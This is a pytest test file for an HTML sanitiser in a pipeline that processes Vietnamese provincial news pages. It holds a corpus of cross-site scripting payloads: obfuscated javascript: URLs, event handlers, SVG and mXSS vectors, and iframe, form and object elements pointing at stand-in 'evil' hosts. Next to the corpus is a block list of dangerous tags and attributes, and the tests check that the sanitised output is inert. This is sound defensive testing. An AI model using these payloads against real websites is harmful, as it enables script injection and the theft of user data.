"""HTML sanitisation against a hostile corpus, checked with an independent parser (lxml)."""

from __future__ import annotations

import unicodedata

import lxml.html
import pytest

from portal_etl.normalize.sanitize import sanitize_html, text_of_html

BASE = "https://dongnai.gov.vn/vi/news/thoi-su/tang-cuong-lien-ket-379.html"
YOUTUBE = "https://www.youtube.com/embed/dQw4w9WgXcQ"

HOSTILE = {
    "script": "<p>a</p><script>alert(1)</script><p>b</p>",
    "script_upper": "<SCRIPT SRC=http://evil/x.js></SCRIPT>",
    "img_onerror": '<img src="x.jpg" onerror="alert(1)">',
    "img_onerror_no_src": "<img src=x onerror=alert(1)//>",
    "body_onload": '<div onload="alert(1)" onmouseover="alert(2)">t</div>',
    "a_javascript": '<a href="javascript:alert(1)">x</a>',
    "a_javascript_mixed_case_entities": '<a href="JaVaScRiPt&#58;alert(1)">x</a>',
    "a_javascript_hex_entities": '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>',
    "a_javascript_tab": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "a_javascript_leading_space": '<a href="  javascript:alert(1)">x</a>',
    "a_vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "a_data": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "img_data": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "video_poster_js": '<video poster="javascript:alert(1)" src="data:video/mp4,AAA"></video>',
    "svg_script": "<svg><script>alert(1)</script></svg>",
    "svg_onload": '<svg onload="alert(1)"><circle r="1"/></svg>',
    "svg_use_href": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "math_mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "style_tag": "<style>body{background:url(javascript:alert(1))}</style><p>t</p>",
    "style_expression": '<p style="width: expression(alert(1))">t</p>',
    "style_import": '<div style="background:url(&quot;javascript:alert(1)&quot;)">t</div>',
    "form": '<form action="http://evil/steal"><input name="q"><button>Gửi</button></form>',
    "form_formaction": '<button formaction="javascript:alert(1)">x</button>',
    "iframe_evil": '<iframe src="http://evil.example/x"></iframe>',
    "iframe_evil_proto_relative": '<iframe src="//evil.example/x"></iframe>',
    "iframe_relative": '<iframe src="/vi/news/x"></iframe>',
    "iframe_youtube_lookalike": '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
    "iframe_srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "iframe_js": '<iframe src="javascript:alert(1)"></iframe>',
    "object_embed": '<object data="http://evil/x.swf"></object><embed src="http://evil/x.swf">',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base_href": '<base href="javascript:alert(1)//">',
    "link_import": '<link rel="import" href="http://evil/x.html">',
    "noscript_breakout": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "comment_breakout": "<!--<img src=x onerror=alert(1)>-->",
    "template": "<template><script>alert(1)</script></template>",
    "double_escaped": "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "triple_escaped": "<p>&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;</p>",
    "double_escaped_img": "&lt;img src=x onerror=alert(1)&gt;",
}


def _tree(fragment: str):
    return lxml.html.fragment_fromstring(fragment or "<p></p>", create_parent="div")


def _assert_inert(out: str) -> None:
    root = _tree(out)
    bad_tags = {"script", "style", "svg", "math", "form", "object", "embed", "meta", "base",
                "link", "input", "button", "template", "noscript"}  # fmt: skip
    for el in root.iter():
        if not isinstance(el.tag, str):
            continue
        assert el.tag.lower() not in bad_tags, (el.tag, out)
        for name, value in el.attrib.items():
            assert not name.lower().startswith("on"), (name, out)
            assert name.lower() not in ("style", "srcdoc", "formaction", "action"), (name, out)
            v = "".join(value.split()).lower()
            assert not v.startswith(("javascript:", "data:", "vbscript:")), (name, value, out)
            if name.lower() in ("href", "src", "poster"):
                assert v.startswith(("https://", "http://", "mailto:")), (name, value, out)
        if el.tag == "iframe":
            assert el.get("src", "").startswith(YOUTUBE.split("/embed")[0]), out
            assert len(el) == 0 and not (el.text or "").strip(), out


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_corpus_is_inert(name):
    out = sanitize_html(HOSTILE[name], BASE)
    _assert_inert(out)
    # idempotent: sanitising the output again changes nothing
    assert sanitize_html(out, BASE) == out


def test_whole_corpus_at_once_is_inert():
    out = sanitize_html("\n".join(HOSTILE.values()), BASE)
    _assert_inert(out)
    assert "alert(1)" not in out.replace("&lt;script&gt;alert(1)&lt;/script&gt;", "").replace(
        "&lt;img src=x onerror=alert(1)&gt;", ""
    ).replace("&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;", "")


def test_double_escaped_script_stays_text():
    out = sanitize_html(HOSTILE["double_escaped"], BASE)
    assert out == "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"
    root = _tree(out)
    assert root.xpath("//script") == []
    assert root.text_content() == "<script>alert(1)</script>"  # text, not an element
    # and the plain-text view shows the literal text without unescaping a second time
    assert text_of_html(out) == "<script>alert(1)</script>"
    triple = sanitize_html(HOSTILE["triple_escaped"], BASE)
    assert text_of_html(triple) == "&lt;script&gt;alert(1)&lt;/script&gt;"


def test_youtube_iframe_kept_evil_iframes_removed():
    html = (
        f'<p>Clip:</p><iframe width="560" height="315" src="{YOUTUBE}" frameborder="0" '
        'allowfullscreen onload="alert(1)">fallback<script>x</script></iframe>'
        '<iframe src="http://evil.example/x" width="1"></iframe>'
        '<iframe src="https://player.vimeo.com/video/1"></iframe>'
        '<iframe src="//www.youtube-nocookie.com/embed/abc"></iframe>'
    )
    out = sanitize_html(html, BASE)
    frames = _tree(out).xpath("//iframe")
    assert [f.get("src") for f in frames] == [
        YOUTUBE,
        "https://player.vimeo.com/video/1",
        "https://www.youtube-nocookie.com/embed/abc",
    ]
    assert frames[0].get("width") == "560" and frames[0].get("allowfullscreen") is not None
    assert frames[0].get("frameborder") is None
    assert "evil" not in out and "fallback" not in out
    # a narrower allowlist drops YouTube too
    out2 = sanitize_html(html, BASE, allowed_iframe_hosts=("player.vimeo.com",))
    assert [f.get("src") for f in _tree(out2).xpath("//iframe")] == ["https://player.vimeo.com/video/1"]


def test_relative_urls_absolutised_and_links_get_rel():
    html = (
        '<p><a href="/vi/news/thoi-su/bai-khac-380.html" title="T" target="_blank">x</a> '
        '<a href="mailto:toasoan@baodongnai.com.vn">mail</a></p>'
        '<figure><img src="../../../uploads/binhphuoc/news/2024_05/a.jpg" alt="Ảnh" width="600">'
        "<figcaption>Chú thích. Ảnh: Phương Hằng</figcaption></figure>"
        '<video controls src="v.mp4" poster="/p.jpg"><source src="v2.mp4" type="video/mp4"></video>'
    )
    out = sanitize_html(html, BASE)
    root = _tree(out)
    a, mail = root.xpath("//a")
    assert a.get("href") == "https://dongnai.gov.vn/vi/news/thoi-su/bai-khac-380.html"
    assert a.get("rel") == "noopener noreferrer" and a.get("title") == "T"
    assert a.get("target") is None
    assert mail.get("href") == "mailto:toasoan@baodongnai.com.vn"
    img = root.xpath("//img")[0]
    assert img.get("src") == "https://dongnai.gov.vn/uploads/binhphuoc/news/2024_05/a.jpg"
    assert img.get("alt") == "Ảnh" and img.get("width") == "600"
    assert root.xpath("//figcaption")[0].text == "Chú thích. Ảnh: Phương Hằng"
    video = root.xpath("//video")[0]
    assert video.get("src") == "https://dongnai.gov.vn/vi/news/thoi-su/v.mp4"
    assert video.get("poster") == "https://dongnai.gov.vn/p.jpg"
    assert root.xpath("//source")[0].get("src") == "https://dongnai.gov.vn/vi/news/thoi-su/v2.mp4"


def test_mailto_only_on_links():
    out = sanitize_html('<img src="mailto:a@b.vn"><p>x</p>', BASE)
    assert "mailto" not in out and "<img" not in out


def test_editor_markup_kept_styles_and_classes_dropped():
    # CKEditor caption style used by NukeViet bodies (sources.md §1.4)
    html = (
        '<p style="text-align:center" class="x"><em>Ảnh: Phương Hằng</em></p>'
        '<table class="image"><tbody><tr><td colspan="2" style="width:1px" onclick="x">'
        "<strong>Ô</strong></td></tr></tbody></table><h1>Tiêu đề</h1><h2>Mục</h2>"
        "<ul><li>một</li></ul><blockquote>trích</blockquote><span>s</span><u>u</u><br>"
    )
    out = sanitize_html(html, BASE)
    assert "style=" not in out and "class=" not in out and "onclick" not in out
    assert "<p><em>Ảnh: Phương Hằng</em></p>" in out
    assert '<td colspan="2"><strong>Ô</strong></td>' in out
    assert "<h1>" not in out and "Tiêu đề" in out  # h1 unwrapped (the title lives elsewhere)
    for tag in ("<h2>", "<ul>", "<li>", "<blockquote>", "<span>", "<u>", "<br>"):
        assert tag in out


def test_text_is_normalised_in_markup():
    html = "<p>" + unicodedata.normalize("NFD", "\u00d0ồng Nai hòa") + "\u200b</p>"
    assert sanitize_html(html, BASE) == "<p>Đồng Nai hòa</p>"  # NFC, Ð→Đ; tone kept for display


def test_empty_inputs():
    assert sanitize_html("", BASE) == ""
    assert sanitize_html(None, BASE) == ""
    assert sanitize_html("<script>x</script>", BASE) == ""
    with pytest.raises(ValueError):
        sanitize_html("<p>x</p>", "/relative/base")


def test_text_of_html_paragraphs():
    html = (
        "<div><p>(ĐN)- Chiều 28-5,&nbsp;đoàn công tác</p><p>Đoạn&nbsp;hai<br>dòng</p>"
        "<script>var x = 1;</script><style>p{}</style>"
        "<table><tr><td>Ảnh</td><td>Phương Hằng</td></tr></table>"
        '<iframe src="https://www.youtube.com/embed/x">fallback</iframe>đuôi</div>'
    )
    assert text_of_html(html) == ("(ĐN)- Chiều 28-5, đoàn công tác\n\nĐoạn hai dòng\n\nẢnh Phương Hằng\n\nđuôi")
    assert text_of_html("") == ""
    assert text_of_html("chỉ chữ") == "chỉ chữ"


def test_unplayable_video_dropped():
    assert sanitize_html(HOSTILE["video_poster_js"], BASE) == ""
    kept = sanitize_html('<video controls><source src="/v.mp4" type="video/mp4"></video>', BASE)
    assert _tree(kept).xpath("//source/@src") == ["https://dongnai.gov.vn/v.mp4"]
